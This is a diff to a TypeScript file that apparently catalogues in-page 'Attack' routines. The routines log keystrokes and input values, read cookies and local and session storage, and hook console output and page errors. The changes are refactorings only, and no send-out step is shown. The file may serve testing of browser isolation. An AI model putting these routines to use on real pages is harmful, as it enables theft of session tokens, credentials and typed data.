@@ -65,8 +65,8 @@ const readers: readonly Attack[] = [
           (event) => {
             take(() => (event.composedPath()[0] as HTMLInputElement).value);
             take(() => (event as InputEvent).data);
-            const { key = '', ctrlKey = false } = event as KeyboardEvent;
-            if (type === 'keydown' || type === 'pointerdown') keys += key.length === 1 && !ctrlKey ? key : '\n';
+            const { key, ctrlKey } = event as Partial<KeyboardEvent>;
+            if (type === 'keydown' || type === 'pointerdown') keys += key?.length === 1 && !ctrlKey ? key : '\n';
           },
           true,
         );
@@ -298,18 +298,19 @@ const searchers: readonly Attack[] = [
   {
     name: 'reads what is stored',
     install: (take) => () => {
-      take(() => [localStorage, sessionStorage].map((storage) => JSON.stringify({ ...storage })));
+      take(() => [localStorage, sessionStorage].map((storage) => JSON.stringify(Object.entries(storage))));
       take(() => document.cookie);
     },
   },
   {
     name: 'reads what is logged and what fails',
     install: (take) => {
+      const { console: page } = window;
       for (const name of ['log', 'info', 'warn', 'error', 'debug'] as const) {
-        const own = console[name];
-        console[name] = (...values: unknown[]) => {
+        const { [name]: own } = page;
+        page[name] = (...values: unknown[]) => {
           take(() => values.map(String));
-          own.apply(console, values);
+          own.apply(page, values);
         };
       }
       addEventListener('error', ({ message }) => take(message));
